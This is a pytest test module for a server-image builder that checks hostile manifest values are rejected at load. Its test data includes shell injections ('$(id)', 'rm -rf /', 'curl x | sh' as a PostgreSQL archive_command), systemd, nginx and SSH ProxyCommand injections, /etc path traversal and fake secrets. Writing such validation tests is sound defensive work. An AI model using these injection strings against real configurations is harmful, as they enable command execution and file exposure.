"""A hostile corpus: every setting that reaches a rendered file or a command,
given quotes, `$()`, backticks, newlines, CR, NUL, tabs, `..`, `//`, other
scripts' digits and 10 kB values. Each manifest is refused at load with the
setting's file:line:col, one line per problem, never a traceback; secrets
are named by kind and never printed. A sample goes through the real CLI.
"""

from __future__ import annotations

import copy
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from builder.errors import UserError
from builder.manifest import load_manifest_text
from builder.manifest.model import COMPONENT_NAMES, Components

ROOT = Path(__file__).resolve().parent.parent
SEED = yaml.safe_load((ROOT / "manifests" / "smallpayroll.yaml").read_text())
# the Rack sample: `render` (fried) reaches the hostile value, not the refusal of
# fried user-data for the Rails app (an own app is only in an image)
SEED["app"]["code"] = "sample"
SEED_2010 = yaml.safe_load((ROOT / "manifests" / "smallpayroll-2010.yaml").read_text())

#: what an attacker or a slip of the keyboard adds to a value
NASTY = {
    "dquote": 'a"b', "squote": "a'b", "subshell": "$(id)", "backtick": "`id`",
    "newline": "a\nExecStartPre=+/bin/sh -c id", "cr": "a\rb", "nul": "a\x00b", "tab": "a\tb",
    "semicolon": "a; rm -rf /", "arabic-digit": "\u0661", "space": "a b",
}
LONG = "x" * 10240
PATH_NASTY = {
    **{k: "/srv/app/" + v for k, v in NASTY.items()},
    "dotdot": "/srv/app/../../etc", "slashslash": "/srv//app", "dot": "/srv/app/.",
    "relative": "srv/app", "root": "/", "etc": "/etc", "under-etc": "/etc/nginx",
    "usr-bin": "/etc/../usr/bin/sudo", "var-lib": "/var/lib", "empty": "", "long": "/" + LONG,
}

#: (manifest, dotted path) of every path-like setting
PATHS = [
    (SEED, "app.root"), (SEED, "app.uploads_dir"), (SEED, "components.nginx.static_root"),
    (SEED, "components.nginx.maintenance_flag"), (SEED, "components.nginx.maintenance_page"),
    (SEED, "components.postgresql.data_dir"), (SEED, "components.postgresql.mount_point"),
    (SEED_2010, "components.ruby.tarball.prefix"),
]
#: (manifest, dotted path) of every name- or word-like setting
WORDS = [
    (SEED, "name"), (SEED, "app.name"), (SEED, "app.server_name"), (SEED, "app.user"),
    (SEED, "app.database.name"), (SEED, "app.database.user"), (SEED, "app.database.network"),
    (SEED, "components.appserver.environment"), (SEED, "components.appserver.bind"),
    (SEED, "components.nginx.error_pages.404"), (SEED, "components.nginx.client_max_body_size"),
    (SEED, "components.postgresql.listen_addresses"), (SEED, "components.postgresql.version"),
    (SEED, "image.name_template"), (SEED, "image.login_user"), (SEED, "publish.ssm_prefix"),
    (SEED, "publish.regions.0"), (SEED, "cutover.old_db.host"), (SEED, "cutover.new_db.dbname"),
    (SEED, "cutover.dns.zone"), (SEED, "cutover.dns.new_address"), (SEED, "cutover.old_web"),
    (SEED, "cutover.old_site"), (SEED, "cutover.timezone"), (SEED, "cutover.smoke_paths.0"),
    (SEED_2010, "components.ruby.tarball.version"), (SEED_2010, "components.ruby.tarball.url"),
    (SEED_2010, "components.ruby.tarball.configure_flags.0"), (SEED_2010, "components.ruby.gems.0"),
    (SEED_2010, "components.postgresql.hba.0.address"),
    (SEED_2010, "components.postgresql.hba.0.user"),
]
#: free text: any printable character is fine, control characters and 10 kB are not
TEXT = [(SEED, "description"), (SEED, "roles.web.description"), (SEED, "cutover.notice.contact")]
RSYNC = ["cutover.files.source", "cutover.files.destination"]


def _set(doc: dict[str, Any], dotted: str, value: Any) -> dict[str, Any]:
    doc = copy.deepcopy(doc)
    *parents, leaf = dotted.split(".")
    node: Any = doc
    for part in parents:
        node = node[int(part)] if isinstance(node, list) else node[part]
    if isinstance(node, list):
        node[int(leaf)] = value
    else:
        node[leaf] = value
    return doc


def _text(doc: dict[str, Any]) -> str:
    # libyaml's emitter: the same text as yaml.safe_dump's for every case here,
    # in a third of the time (the loader under test stays PyYAML's own)
    return yaml.dump(doc, Dumper=yaml.CSafeDumper, sort_keys=False, allow_unicode=True,
                     width=1 << 20)


def _refused(doc: dict[str, Any], dotted: str) -> UserError:
    text = _text(doc)
    with pytest.raises(UserError) as info:
        load_manifest_text(text, "hostile.yaml")
    err = info.value
    assert err.problems, err.message
    lines = text.splitlines()
    for problem in err.problems:
        loc = problem.location
        assert loc.file == "hostile.yaml" and 1 <= loc.line <= len(lines) and loc.col >= 1
        assert "\n" not in problem.message and "\r" not in problem.message
        assert "\x00" not in problem.message
    # the problem names the setting, or points at the line that sets it
    parts = dotted.split(".")
    keys = {parts[-1], next(p for p in reversed(parts) if not p.isdigit())}
    named = [p for p in err.problems if dotted in p.message or any(
        k in p.message or k in lines[p.location.line - 1] for k in keys)]
    assert named, [str(p) for p in err.problems]
    return err


def _cases() -> Iterator[Any]:
    for doc, dotted in PATHS:
        for name, value in PATH_NASTY.items():
            yield pytest.param(doc, dotted, value, id=f"{dotted}-{name}")
    for dotted in RSYNC:
        for name, value in PATH_NASTY.items():
            yield pytest.param(SEED, dotted, value, id=f"{dotted}-{name}")
        yield pytest.param(SEED, dotted, "host:/", id=f"{dotted}-host-root")
    for doc, dotted in WORDS:
        for name, value in {**NASTY, "long": LONG}.items():
            yield pytest.param(doc, dotted, value, id=f"{dotted}-{name}")
    for doc, dotted in TEXT:
        for name in ("newline", "cr", "nul", "tab"):
            yield pytest.param(doc, dotted, NASTY[name], id=f"{dotted}-{name}")
        yield pytest.param(doc, dotted, LONG, id=f"{dotted}-long")


@pytest.mark.parametrize(("doc", "dotted", "value"), list(_cases()))
def test_hostile_value_is_refused_at_its_line(doc: dict[str, Any], dotted: str,
                                              value: str) -> None:
    _refused(_set(doc, dotted, value), dotted)


@pytest.mark.parametrize(("key", "value", "words"), [
    ("archive_command", "'curl x | sh'", "runs a shell command"),
    ("ssl_passphrase_command", "'id'", "runs a shell command"),
    ("shared_preload_libraries", "'evil'", "loads shared libraries"),
    ("data_directory", "'/etc'", "places the cluster's files"),
    ("port", "5433", "components.postgresql.port"),
    ("listen_addresses", "'*'", "components.postgresql.listen_addresses"),
    ("work_mem\nport", "1", "PostgreSQL setting name"),
    ("Work_Mem", "1", "PostgreSQL setting name"),
    ("work_mem", "64MB\narchive_command = 'id'", "printable ASCII"),
    ("work_mem", "\u0661MB", "printable ASCII"),
])
def test_postgresql_settings_amibake_owns_or_that_break_the_file(
        key: str, value: str, words: str) -> None:
    doc = _set(SEED, "components.postgresql.settings", {key: value})
    err = _refused(doc, "components.postgresql.settings")
    assert "settings" in str(err.problems[0]) or key in str(err.problems[0])
    assert any(words in p.message for p in err.problems), [str(p) for p in err.problems]


@pytest.mark.parametrize("options", [
    ["-o", "ProxyCommand=sh -c id"], ["-oLocalCommand=id"], ["-o", "PermitLocalCommand=yes"],
    ["-o", "KnownHostsCommand=/bin/id"], ["-F", "/tmp/evil"], ["-o", "Match exec id"],
])
@pytest.mark.parametrize("dotted", ["cutover.files.ssh_options", "cutover.old_web_ssh_options"])
def test_ssh_options_off_the_allow_list(options: list[str], dotted: str) -> None:
    _refused(_set(SEED, dotted, options), dotted)


def test_data_dir_must_resolve_under_mount_point() -> None:
    err = _refused(_set(SEED, "components.postgresql.data_dir", "/mnt/../etc/x"), "data_dir")
    assert "'..'" in str(err.problems[0])


@pytest.mark.parametrize(("dotted", "value"), [
    ("publish.regions.0", "us-east-\u0661"), ("publish.ssm_prefix", "no slash; $(id)"),
    ("image.name_template", "{name.zzz}"), ("image.name_template", "{name!r}"),
    ("image.name_template", "{0}"), ("image.name_template", "{name"),
    ("image.name_template", "{name} {version}"),
])
def test_publish_names(dotted: str, value: str) -> None:
    _refused(_set(SEED, dotted, value), dotted)


WORLD_RULE = {"type": "host", "database": "all", "user": "all", "address": "0.0.0.0/0",
              "method": "trust"}


@pytest.mark.parametrize("rule", [
    WORLD_RULE, {**WORLD_RULE, "address": "::/0", "method": "md5"},
    {**WORLD_RULE, "address": "0.0.0.0/1", "method": "scram-sha-256"},
])
def test_world_open_database_needs_allow_world(rule: dict[str, str]) -> None:
    doc = _set(SEED, "components.postgresql.hba", [rule])
    err = _refused(doc, "address")
    assert "allow_world" in str(err.problems[0])
    load_manifest_text(_text(_set(SEED, "components.postgresql.hba",
                                  [{**rule, "allow_world": True}])))
    load_manifest_text(_text(_set(SEED, "components.postgresql.hba",
                                  [{**rule, "method": "reject"}])))


def test_world_open_app_network_needs_allow_world() -> None:
    doc = _set(SEED, "app.database.network", "0.0.0.0/0")
    assert "allow_world" in str(_refused(doc, "network").problems[0])
    load_manifest_text(_text(_set(doc, "app.database.allow_world", True)))


SECRETS = {
    "password=": "password=hunter2hunter2", "token=": "token=abcd1234efgh",
    "api_key=": "api_key: Zx81Kq0PaaBB", "secret=": "secret=sup3rs3cr3t",
    "url-userinfo": "https://deploy:Pa55word99@example.com/x.tar.gz",
    "aws-key": "AKIAABCDEFGHIJKLMNOP",
    "private-key": "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk=\n",
}


@pytest.mark.parametrize("dotted", ["description", "roles.web.description",
                                    "cutover.notice.contact", "app.name", "cutover.old_site"])
@pytest.mark.parametrize("kind", sorted(SECRETS))
def test_secret_values_are_refused_and_never_printed(dotted: str, kind: str) -> None:
    secret = SECRETS[kind]
    err = _refused(_set(SEED, dotted, secret), dotted)
    shown = err.message + "\n".join(str(p) for p in err.problems)
    assert "not shown" in shown
    for piece in (secret, secret.split("=")[-1], secret.split(":")[-1], "hunter2", "Pa55word99",
                  "AKIAABCDEF", "b3BlbnNzaC1rZXk"):
        assert piece not in shown, piece


def test_component_list_has_one_source() -> None:
    from dataclasses import fields

    from builder.render import RENDERERS
    from builder.render.role import IMPLIED_BY

    assert tuple(f.name for f in fields(Components)) == COMPONENT_NAMES
    # every component has a renderer; the others (app) come with components
    assert set(RENDERERS) - set(IMPLIED_BY) == set(COMPONENT_NAMES)


def _cli(*args: str) -> subprocess.CompletedProcess[str]:
    entry = "import sys; from builder.cli import main; sys.exit(main(sys.argv[1:]))"
    return subprocess.run([sys.executable, "-c", entry, *args], capture_output=True, text=True,
                          cwd=ROOT, check=False, timeout=300)


@pytest.mark.parametrize(("dotted", "value"), [
    ("cutover.files.destination", ""), ("cutover.files.destination", "/"),
    ("components.appserver.environment", "production\nExecStartPre=+/bin/sh -c id"),
    ("components.nginx.error_pages.404", "/404.html;\n location /etc { alias /etc/; }"),
    ("cutover.files.ssh_options", ["-o", "ProxyCommand=touch /tmp/pwned"]),
    ("description", "token=abcd1234efgh"),
])
@pytest.mark.parametrize("verb", ["validate", "render"])
def test_real_cli_refuses_with_file_line_col(tmp_path: Path, dotted: str, value: Any,
                                             verb: str) -> None:
    path = tmp_path / "hostile.yaml"
    text = _text(_set(SEED, dotted, value))
    path.write_text(text)
    args = ["validate", str(path)] if verb == "validate" else \
        ["render", str(path), "--role", "web"]
    proc = _cli(*args)
    assert proc.returncode == 1, (proc.stdout, proc.stderr)
    output = proc.stdout + proc.stderr
    assert "Traceback" not in output
    assert f"{path}:" in output
    line = next(ln for ln in output.splitlines() if ln.startswith(f"{path}:"))
    assert line.split(":")[1].isdigit() and line.split(":")[2].isdigit(), line
    assert "abcd1234efgh" not in output


@pytest.mark.parametrize("name", ["a\nbootcmd: [id].yaml", "$(id).yaml", "\u0661 x.yaml",
                                  "-rf.yaml"])
def test_weird_file_names_never_cause_a_traceback(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    path.write_text((ROOT / "manifests" / "smallpayroll.yaml").read_text())
    proc = _cli("validate", str(path))
    assert "Traceback" not in proc.stdout + proc.stderr
    # the manifest itself is fine; how its name shows in rendered comments is the
    # renderer's to sanitise, so a problem there is reported, never raised
    assert proc.returncode in (0, 1), (proc.stdout, proc.stderr)


def _settings(cls: type, seen: set[type]) -> Iterator[tuple[str, Any, Any]]:
    """(Class.field, type, metadata) of every setting reachable from `cls`."""
    import dataclasses
    import typing

    from builder.manifest.convert import yaml_fields

    seen.add(cls)
    meta = {f.name: f.metadata for f in dataclasses.fields(cls)}
    for name, tp in yaml_fields(cls).items():
        yield f"{cls.__name__}.{name}", tp, meta[name]
        for arg in (tp, *typing.get_args(tp)):
            inner = [arg, *typing.get_args(arg)]
            for t in inner:
                if dataclasses.is_dataclass(t) and isinstance(t, type) and t not in seen:
                    yield from _settings(t, seen)


#: string settings whose grammar is checked across settings (checks.py)
CHECKED_ELSEWHERE = {"Role.components"}


def test_every_string_setting_declares_its_check() -> None:
    """A setting of free-form strings without a declared check would reach a
    rendered file unchecked; a renamed field keeps its check (it is on the field)."""
    from builder.manifest.model import Manifest

    unchecked = []
    for name, tp, meta in _settings(Manifest, set()):
        text = str(tp)
        if "str" not in text or "Literal" in text or "SecretRef" in text or \
                name in CHECKED_ELSEWHERE:
            continue
        if "dict[str, str]" in text:
            ok = "key" in meta and "item" in meta
        elif "tuple[str" in text:
            ok = "item" in meta or "check" in meta
        elif "dict[str," in text:
            continue  # a mapping of sections: each section's fields are checked
        else:
            ok = "check" in meta
        if not ok:
            unchecked.append(name)
    assert unchecked == []
